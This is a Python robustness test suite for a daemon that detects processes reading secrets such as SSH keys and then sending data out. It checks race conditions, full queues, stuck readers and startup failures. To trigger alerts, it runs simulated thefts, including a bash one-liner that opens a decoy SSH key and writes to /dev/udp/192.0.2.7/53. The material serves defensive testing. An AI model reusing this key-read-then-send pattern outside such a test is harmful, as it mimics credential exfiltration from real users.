#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Races, full tables, readers that do not read and failed starts: each once let a theft pass without an alert, ended
the daemon, or caused a wrong alert. Losses must at least be counted and raised."""

import contextlib
import json
import os
import re
import signal
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import harness
import outlet
import varlink
from cases import cases
from harness import program, touches, truths
from net import HOST_V4
from tap import Failure, Skip, require, require_equal

# The timeout of systemd is longer, but a shutdown waits for the daemon.
harness.STOP_TIMEOUT = 5
CANNOT = 77  # play.h: PLAY_CANNOT
UNPRIVILEGED = 65000

# The memory limit of a daemon whose reader is stuck: outstanding alerts and the output buffer are a fifth of it.
RSS_ANON_MAX_KIB = 40 * 1024
FLOOD_SECONDS = 3

# As many as an alert names (bpf/abi/event.h: BW_FILES_MAX).
FILES_MAX = 8
OPEN_ROUNDS, OPEN_PORT = 500, 20000
SEND_ROUNDS, SEND_PORT = 300, 30000
# Links to one file: its process entries end, and each has a name of its own.
EXECUTABLES = 1500
# The minimum of MaxMarks=, and a somewhat larger number of processes.
MARKS_MAX, HOLDERS = 1024, 1100
# More than the alerts whose repeats are counted (daemon/alert/repeats.h: REPEAT_WATCHES_MAX).
OTHER_ALERTS, REPEATS = 1100, 10
# About 400 KiB: more than the buffer of a pipe, less than the output buffer of the daemon.
SLOW_ALERTS = 200
# losses.h: a reader is stuck after 10 s.
STUCK_TIMEOUT = 20
POLL_SECONDS = 0.05


class Daemon(harness.Barbwired):
    """stdout: "read", "later" (a pipe that read_output() starts to read) or a file for the output. stderr: "read", or
    "until armed". prefix: a command that executes its arguments."""

    def __init__(self, policy_dir, stdout="read", stderr="read", prefix=(), args=()):
        super().__init__([policy_dir], args=args)
        self.command = list(prefix) + self.command
        self.stdout, self.stderr_mode = stdout, stderr

    def start(self):
        self.process = subprocess.Popen(
            self.command, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE,
            stdout=subprocess.PIPE if isinstance(self.stdout, str) else self.stdout)
        self.add_reader(self.read if self.stderr_mode == "read" else self.read_until_armed,
                        self.process.stderr, self.on_stderr)
        if self.stdout == "read":
            self.read_output()
        return self

    def add_reader(self, target, stream, on_line):
        reader = threading.Thread(target=target, args=(stream, on_line), daemon=True)
        self.readers.append(reader)
        reader.start()

    def read_output(self):
        self.add_reader(self.read, self.process.stdout, self.on_stdout)

    def read_until_armed(self, stream, on_line):
        for line in stream:
            with self.changed:
                on_line(line.rstrip(b"\n"))
                self.changed.notify_all()
            if b"armed" in line:
                return


class Thief:
    """flooder.c in the namespace of the thief, after it has opened the secret."""

    def __init__(self, net, secret, **kwargs):
        self.process = net.popen([program("robust-flooder"), secret], stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, text=True, **kwargs)
        self.answer("opened")

    @property
    def pid(self):
        return self.process.pid

    def answer(self, wanted):
        require_equal(self.process.stdout.readline(), wanted + "\n", "the thief's answer")

    def send(self, address, port, count=1):
        self.process.stdin.write(f"{address} {port} {count}\n")
        self.process.stdin.flush()
        self.answer("done")

    def flood(self):
        self.process.stdin.write("flood\n")
        self.process.stdin.flush()
        self.answer("flooding")

    def __enter__(self):
        return self

    def __exit__(self, *exception):
        # A flooder reads no requests any more.
        self.process.kill()
        self.process.communicate()

    def leave(self):
        self.process.communicate()
        require_equal(self.process.returncode, 0, "the thief's exit status")


class Scene:
    """The network, the decoys, and a policy whose classes only match these decoys."""

    def __init__(self, net, home):
        self.net, self.home = net, home
        self.root = home.root.decode()
        self.cold_root = tempfile.mkdtemp(prefix="barbwire-cold-", dir="/var/tmp")
        keys = [f"{self.root}/home/ana/.ssh/*"]
        classes = harness.policy_class("keys", keys, Score="80", Severity="high")
        for name in ("one", "two"):
            classes += harness.policy_class(name, [f"{self.root}/{name}/*"], Window="1min")
        classes += harness.policy_class("cold", [f"{self.cold_root}/**"])
        self.policy = self.policy_dir("policy.d", classes)
        self.brief = self.policy_dir("brief.d", f"[Correlator]\nMaxMarks={MARKS_MAX}\n"
                                     + harness.policy_class("keys", keys, Window="1s"))
        self.secrets = {name: self.decoy(f"{self.root}/{name}/secret0") for name in ("one", "two")}

    def policy_dir(self, name, text):
        path = f"{self.root}/{name}"
        os.mkdir(path, 0o755)
        with open(f"{path}/10-robustness.conf", "w", encoding="ascii") as out:
            out.write(outlet.POLICY + text)
        return path

    def decoy(self, path):
        self.home.decoy(path.encode())
        return path

    def key(self):
        return self.home.key()[0].decode()

    def run(self, command, **kwargs):
        result = self.net.run(command, **kwargs)
        if result.returncode == CANNOT:
            raise Skip(f"{command[0]}: {result.stderr.strip()}", environment=True)
        require_equal(result.returncode, 0, f"exit status of {command[0]}\n{result.stderr}")
        return result.stdout


def stop_quickly(bw):
    """Sends SIGTERM, requires exit status 0 within STOP_TIMEOUT, and returns the summary."""
    summary = bw.stop()
    require("unwritten" in summary, f"the summary does not count what was not written: {bw.stderr[-1]}")
    return summary


# One daemon for these cases: each theft has a port of its own.

def by_port(bw, first, count):
    """{port: [alert]} for alerts with these ports at 127.0.0.1."""
    found = {}
    for alert in bw.find(lambda a: a["destination"]["address"] == "127.0.0.1"):
        if first <= alert["destination"]["port"] < first + count:
            found.setdefault(alert["destination"]["port"], []).append(alert)
    missing = sorted(set(range(first, first + count)) - set(found))
    require(not missing, f"{len(missing)} of {count} thefts without an alert, the first: {missing[:5]}")
    return found


def two_opens(bw, scene):
    """One thread opens files of class one, the other files of class two."""
    secrets = [scene.decoy(f"{scene.root}/{name}/secret{n}") for n in range(FILES_MAX // 2)
               for name in scene.secrets]
    scene.run([program("robust-racer"), "opens", str(OPEN_ROUNDS), "127.0.0.1", str(OPEN_PORT)] + secrets)
    bw.prove_delivered(scene.net, scene.home)
    partial = []
    for port, alerts in by_port(bw, OPEN_PORT, OPEN_ROUNDS).items():
        for alert in alerts:
            reported = set(alert["classes"]), {entry["path"] for entry in alert["files"]}
            if reported != ({"one", "two"}, set(secrets)):
                partial.append((port, reported))
    require(not partial, f"{len(partial)} of {OPEN_ROUNDS} alerts do not name all: {partial[:2]}")


def four_sends(bw, scene):
    scene.run([program("robust-racer"), "sends", str(SEND_ROUNDS), "127.0.0.1", str(SEND_PORT),
               scene.secrets["one"]])
    bw.prove_delivered(scene.net, scene.home)
    doubled = {port: len(ids) for port, alerts in by_port(bw, SEND_PORT, SEND_ROUNDS).items()
               if len(ids := {alert["id"] for alert in alerts}) != 1}
    require(not doubled, f"{len(doubled)} of {SEND_ROUNDS} thefts have several alerts: {str(doubled)[:200]}")


def shell_theft(bw, scene, directory, executables):
    """bash opens the key, runs that many executables, and connects; returns its alert."""
    key = scene.key()
    script = 'echo $$; exec 9<"$1"; "$2" run "$3" "$4" || exit 1; exec 8>/dev/udp/192.0.2.7/53; echo x >&8'
    pid = int(scene.run(["/bin/bash", "-c", script, "bash", key, program("robust-crowd"),
                         str(executables), directory]))
    alert = bw.wait_alert(lambda a: a["process"]["pid"] == pid, "the shell's alert")
    shell = os.path.realpath("/bin/bash")
    reported = [(entry["path"], entry["exe"]) for entry in alert["files"]]
    require_equal(reported, [(key, shell)], "files[] path, exe")
    require_equal(alert["process"]["exe"], shell, "process.exe")
    return alert


def many_executables(bw, scene):
    directory = f"{scene.root}/many"
    os.mkdir(directory)
    # Links cannot cross file systems: one copy, and links to it.
    with open(program("robust-crowd"), "rb") as source, open(f"{directory}/0", "wb") as copy:
        copy.write(source.read())
    os.chmod(f"{directory}/0", 0o755)
    for n in range(1, EXECUTABLES):
        os.link(f"{directory}/0", f"{directory}/{n}")
    few = shell_theft(bw, scene, directory, 0)
    many = shell_theft(bw, scene, directory, EXECUTABLES)
    for name in ("severity", "classes"):
        require_equal(many[name], few[name], name)


def compat_call(bw, scene, variant, key_fd):
    output = scene.run([program("robust-compat-call"), variant, str(key_fd), HOST_V4, "53"],
                       pass_fds=[key_fd])
    pids = {int(line) for line in output.split()}
    require_equal(len(pids), 2 if variant == "fork" else 1, f"processes that sent\n{output}")
    bw.expect_no_alert(lambda a: a["process"]["pid"] in pids, scene.net, scene.home, "has opened nothing")
    reported = [state for state in bw.states if state.get("cause") == "file_gone"]
    require(not reported, f"a wrong open: {reported}")


def strange_call(bw, scene):
    """Only sys_exit sees that the call was successful."""
    if not bw.stderr_since(0, "sensor tracepoint"):
        raise Skip("this sensor is not attached to the return of system calls", environment=True)
    scene.run([program("robust-strange-call"), scene.key()])
    bw.wait(lambda: next((s for s in bw.states if s.get("cause") == "call_unknown"), None), harness.ALERT_TIMEOUT,
            "a state record that a call was unknown")


def cold_handle(bw, scene):
    key = scene.decoy(f"{scene.cold_root}/a/b/key")
    truth, = truths(scene.run([program("robust-cold-handle"), "cold", key, HOST_V4, "443"]))

    def reported():
        return (next((a for a in bw.alerts if a["process"]["pid"] == truth.sender), None)
                or next((s for s in bw.states if s.get("cause") == "path_unknown"), None))

    bw.wait(reported, harness.ALERT_TIMEOUT, "an alert, or a state record that a path was unknown")


def no_false_loss(bw, provoked):
    summary = stop_quickly(bw)
    for name in ("file_gone", "name_lost", "malformed", "unwritten"):
        require_equal(summary[name], 0, name)
    require(not bw.malformed, f"not JSON of a known kind: {bw.malformed[:3]}")
    require(provoked or summary["path_unknown"] == 0, f"path_unknown={summary['path_unknown']}")


def shared_cases(t, scene):
    # Opened before it matched a class: a process that has a sensitive file open when the daemon starts is marked.
    plain = scene.decoy(f"{scene.root}/plain")
    key_fd = os.open(plain, os.O_RDONLY)
    with Daemon(scene.policy) as bw:
        os.rename(plain, scene.key())
        t.case(f"two threads open secrets of two classes at once, {OPEN_ROUNDS} times", two_opens, bw, scene)
        t.case(f"four threads send to one destination at once, {SEND_ROUNDS} times", four_sends, bw, scene)
        for variant in ("readlink", "fork"):
            t.case(f"int 0x80: {variant} is not an open", compat_call, bw, scene, variant, key_fd)
        t.case("a system call that no table lists", strange_call, bw, scene)
        t.case(f"names are still known after {EXECUTABLES} executables", many_executables, bw, scene)
        t.case("opened by handle while no path is cached", cold_handle, bw, scene)
        t.case("SIGTERM: exit 0, no other loss than that path", no_false_loss, bw, True)
    os.close(key_fd)


# Full tables

def expired_marks(scene):
    secret = scene.key()
    with Daemon(scene.brief) as bw:
        crowd = subprocess.Popen([program("robust-crowd"), "hold", str(HOLDERS), secret],
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        try:
            require_equal(crowd.stdout.readline(), "ready\n", "crowd")
            # Two windows.
            time.sleep(2)
            bw.prove_delivered(scene.net, scene.home)
            require(crowd.poll() is None, "the crowd is gone")
        finally:
            crowd.communicate()
        stop_quickly(bw)


def repeats_beyond_watches(scene):
    one, two = scene.secrets.values()
    with Daemon(scene.policy) as bw:
        with Thief(scene.net, one) as thief, Thief(scene.net, two) as other:
            for _ in range(1 + REPEATS):
                thief.send("127.0.0.1", 17000)
            other.send("127.0.0.2", 18000, OTHER_ALERTS)
            # Their alerts are outstanding, or were replaced by others.
            bw.wait(lambda: len({a["id"] for a in bw.alerts}) >= 1 + OTHER_ALERTS, harness.ALERT_TIMEOUT,
                    f"{1 + OTHER_ALERTS} alerts")
            for _ in range(REPEATS):
                thief.send("127.0.0.1", 17000)
            thief.leave()
            other.leave()
        bw.prove_delivered(scene.net, scene.home)
        summary = stop_quickly(bw)
    reported = {}
    for alert in bw.find(lambda a: a["destination"]["port"] == 17000):
        reported[alert["id"]] = max(reported.get(alert["id"], 0), alert["repeats"])
    # Each egress is an alert or a repeat of one, or is counted as lost.
    require_equal(len(reported) + sum(reported.values()) + summary["repeat_gone"], 1 + 2 * REPEATS,
                  f"egress accounted for ({reported}, repeat_gone={summary['repeat_gone']})")


# Readers that do not read

class RssWatch(threading.Thread):
    """The largest RssAnon of a process, in KiB, until it ends."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.peak = pid, 0

    def run(self):
        while True:
            try:
                with open(f"/proc/{self.pid}/status", encoding="ascii", errors="replace") as status:
                    found = re.search(r"^RssAnon:\s+(\d+) kB", status.read(), re.M)
            except (FileNotFoundError, ProcessLookupError):
                return
            if not found:  # a zombie has no memory
                return
            self.peak = max(self.peak, int(found[1]))
            time.sleep(POLL_SECONDS)


def is_sanitized():
    """AddressSanitizer uses many times the memory of the daemon."""
    with open(harness.BARBWIRED, "rb") as binary:
        return b"__asan_init" in binary.read()


def stalled_reader(t, scene):
    with Daemon(scene.policy, stdout="later") as bw:
        watch = RssWatch(bw.pid)
        watch.start()
        with Thief(scene.net, scene.secrets["one"]) as thief:
            thief.flood()
            # The load itself.
            time.sleep(FLOOD_SECONDS)
            require(bw.process.poll() is None, f"the daemon has ended\n{bw.tail()}")
            summary = stop_quickly(bw)
        watch.join()
        t.note(f"alerts={summary['alerts']} waiting={summary['waiting']}, "
               f"RssAnon at most {watch.peak} KiB")
        written = [json.loads(line) for line in bw.process.stdout.read().splitlines(keepends=True)
                   if line.endswith(b"\n")]
    require(summary["waiting"] > 0, f"nobody read, and all was written: {summary}")
    first = sum(line["kind"] == "alert" and line["repeats"] == 0 for line in written)
    require(first + summary["waiting"] >= summary["alerts"],
            f"{first} alerts written + {summary['waiting']} not, but there were {summary['alerts']}")
    if not is_sanitized():
        require(watch.peak < RSS_ANON_MAX_KIB, f"RssAnon was {watch.peak} KiB")


def stuck_reader(scene):
    """Alerts that are not read: status says so, until they are read."""
    socket = os.path.join(scene.home.root.decode(), "stuck-socket")
    with Daemon(scene.policy, stdout="later", args=[f"--listen={socket}"]) as bw, varlink.Connection(socket) as client:
        def waits():
            return [reason for reason in client.call("GetStatus")["degraded"] if "Alerts not delivered" in reason]

        require(not waits(), "something waits before there is an alert")
        with Thief(scene.net, scene.secrets["one"]) as thief:
            thief.send("127.0.0.1", 19000, SLOW_ALERTS)
            thief.leave()
        bw.wait(waits, STUCK_TIMEOUT, "degraded")
        reported = len(client.call("ListAlerts", limit=SLOW_ALERTS)["alerts"])
        # One that is partly written is both.
        both = reported + client.call("GetStatus")["alerts"]["waiting"] - SLOW_ALERTS
        require(0 <= both <= 1,
                f"{reported} alerts raised, and {SLOW_ALERTS - reported + both} waiting, of {SLOW_ALERTS}")
        bw.read_output()
        bw.wait(lambda: not waits(), STUCK_TIMEOUT, "ok again")
        require_equal(len(client.call("ListAlerts", limit=SLOW_ALERTS)["alerts"]), SLOW_ALERTS, "alerts for queries")
        stop_quickly(bw)


def slow_reader(scene):
    with Daemon(scene.policy, stdout="later") as bw:
        with Thief(scene.net, scene.secrets["one"]) as thief:
            thief.send("127.0.0.1", 19000, SLOW_ALERTS)
            thief.leave()
        reading = threading.Timer(1, bw.read_output)
        reading.start()
        summary = stop_quickly(bw)
        reading.join()
        for reader in bw.readers:
            reader.join()
    require(not bw.malformed, f"not JSON of a known kind: {bw.malformed[:1]}")
    require_equal((summary["alerts"], len(bw.alerts), summary["unwritten"]), (SLOW_ALERTS, SLOW_ALERTS, 0),
                  "alerts in the summary, lines read, unwritten")


def pipe_fill(pid):
    """Fills the pipe at standard error of the process, through another open file, since O_NONBLOCK would be shared."""
    fd = os.open(f"/proc/{pid}/fd/2", os.O_WRONLY | os.O_NONBLOCK)
    try:
        with contextlib.suppress(BlockingIOError):
            while True:
                # Complete pages first, then single bytes for the rest.
                os.write(fd, b"-" * 4096)
        with contextlib.suppress(BlockingIOError):
            while True:
                os.write(fd, b"-")
    finally:
        os.close(fd)


def full_stderr(scene):
    with Daemon(scene.policy, stderr="until armed") as bw:
        pipe_fill(bw.pid)
        # Each reload logs a message.
        for _ in range(3):
            bw.process.send_signal(signal.SIGHUP)
            bw.prove_delivered(scene.net, scene.home)
        bw.process.send_signal(signal.SIGTERM)
        try:
            status = bw.process.wait(harness.STOP_TIMEOUT)
        except subprocess.TimeoutExpired:
            raise Failure(f"still there {harness.STOP_TIMEOUT} s after SIGTERM") from None
    require_equal(status, 0, "exit status")


THEFTS = 5


def thefts_unwritten(bw, scene):
    """Alerts that cannot be written: the daemon continues, and counts them."""
    for _ in range(THEFTS):
        with Thief(scene.net, scene.key()) as thief:
            thief.send("127.0.0.1", 16000)
            thief.leave()
        # It answers, so it runs, and it has processed the alert.
        require("policy reloaded" in bw.reload(), "no reload")
    summary = stop_quickly(bw)
    require_equal(summary["alerts"], THEFTS, "alerts")
    require(summary["unwritten"] >= THEFTS, f"unwritten={summary['unwritten']} of {THEFTS} alerts")


def full_stdout(scene):
    with open("/dev/full", "wb") as full, Daemon(scene.policy, stdout=full) as bw:
        thefts_unwritten(bw, scene)


def closed_stdout(scene):
    bw = Daemon(scene.policy, prefix=["/bin/sh", "-c", 'exec "$@" >&-', "sh"])
    try:
        try:
            bw.start().wait_armed()
        except Failure:
            # It may also refuse, with a reason.
            require_equal(bw.process.poll(), 1, f"exit status\n{bw.tail()}")
            require(any("standard output" in line.lower() for line in bw.stderr),
                    f"does not say why\n{bw.tail()}")
            return
        thefts_unwritten(bw, scene)
    finally:
        bw.kill()


# Starts and exits

def early_hangup(scene):
    bw = Daemon(scene.policy).start()
    try:
        deadline = time.monotonic() + harness.ARMED_TIMEOUT
        while not any("bpf-map" in link for link in descriptors(bw.pid)):
            require(time.monotonic() < deadline and bw.process.poll() is None, f"loads nothing\n{bw.tail()}")
        require(not bw.stderr_since(0, "armed"), "armed before it had loaded anything")
        bw.process.send_signal(signal.SIGHUP)
        bw.wait_armed()
        bw.prove_delivered(scene.net, scene.home)
        stop_quickly(bw)
    finally:
        bw.kill()


def descriptors(pid):
    links = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        with contextlib.suppress(FileNotFoundError):
            links.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
    return links


def unprivileged(scene):
    # The build directory may not be accessible to other users: the program is passed by descriptor.
    binary = os.open(harness.BARBWIRED, os.O_RDONLY)
    result = subprocess.run([f"/proc/self/fd/{binary}", f"--policy-dir={scene.policy}"], pass_fds=[binary],
                            stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60,
                            user=UNPRIVILEGED, group=UNPRIVILEGED, extra_groups=[])
    os.close(binary)
    require_equal(result.returncode, 1, f"exit status\n{result.stderr}")
    require(re.search(r"\bCAP_[A-Z_]+", result.stderr), f"names no capability: {result.stderr}")
    require("too old" not in result.stderr, f"blames the kernel: {result.stderr}")


def cgroup2_mount():
    with open("/proc/self/mountinfo", encoding="utf-8", errors="surrogateescape") as mounts:
        for line in mounts:
            fields, _, kind = line.partition(" - ")
            if kind.startswith("cgroup2 ") and fields.split()[3] == "/":
                return fields.split()[4]
    raise Skip("no cgroup2 mount", environment=True)


def cgroup_namespace(scene):
    cgroup = os.path.join(cgroup2_mount(), f"barbwire-test-{os.getpid()}")
    mountpoint = f"{scene.root}/cgroup"
    os.mkdir(mountpoint)
    join = 'echo $$ > "$0/cgroup.procs" && exec '
    own_mount = 'umount -a -t cgroup2; mount -t cgroup2 none "$0" && exec "$@"'
    try:
        os.mkdir(cgroup)
    except OSError as error:
        raise Skip(f"{cgroup}: {error.strerror}", environment=True) from None
    try:
        enter = join + 'unshare --cgroup --mount -- /bin/sh -c "$@"'
        with Daemon(scene.policy, prefix=["/bin/sh", "-c", enter, cgroup, own_mount, mountpoint]) as bw:
            bw.wait(lambda: any("warning" in line and "cgroup" in line for line in bw.stderr),
                    harness.ALERT_TIMEOUT, "a warning that it sees its own cgroup only")
            key = scene.key()
            truth, = truths(scene.run(["/bin/sh", "-c", join + '"$@"', cgroup,
                                       program("technique-out-tcp"), "blocking", key, HOST_V4, "443"]))
            bw.wait_alert(lambda a: touches(a, key.encode()) and a["process"]["pid"] == truth.sender,
                          "the alert for a theft inside the cgroup")
            stop_quickly(bw)
    finally:
        os.rmdir(cgroup)


def busy_stop(scene):
    with Daemon(scene.policy, stdout="later") as bw, open(os.devnull, "wb") as devnull:
        # Fast, so that the daemon is busy and not the reader.
        drain = subprocess.Popen(["cat"], stdin=bw.process.stdout, stdout=devnull)
        try:
            with Thief(scene.net, scene.secrets["one"]) as thief:
                thief.flood()
                bw.reload()
                for _ in range(20):
                    bw.process.send_signal(signal.SIGHUP)
                stop_quickly(bw)
        finally:
            bw.kill()
            bw.process.stdout.close()
            drain.wait()


def main():
    with cases() as (t, net, home):
        scene = Scene(net, home)
        try:
            shared_cases(t, scene)
            t.case("expired marks make room", expired_marks, scene)
            t.case("repeats are written or counted when too many alerts are outstanding", repeats_beyond_watches, scene)
            t.case("a flood, and alerts are not read", stalled_reader, t, scene)
            t.case("a reader that starts after SIGTERM gets every alert", slow_reader, scene)
            t.case("a reader that does not read is a reason in status", stuck_reader, scene)
            t.case("diagnostics are not read", full_stderr, scene)
            t.case("standard output is full", full_stdout, scene)
            t.case("standard output is closed", closed_stdout, scene)
            t.case("SIGHUP before it is armed", early_hangup, scene)
            t.case("without privilege it names the capabilities", unprivileged, scene)
            t.case("in a cgroup namespace it logs that it monitors a part", cgroup_namespace, scene)
            t.case("SIGTERM during a flood, with reloads pending", busy_stop, scene)
        finally:
            harness.shutil.rmtree(scene.cold_root, ignore_errors=True)


if __name__ == "__main__":
    main()
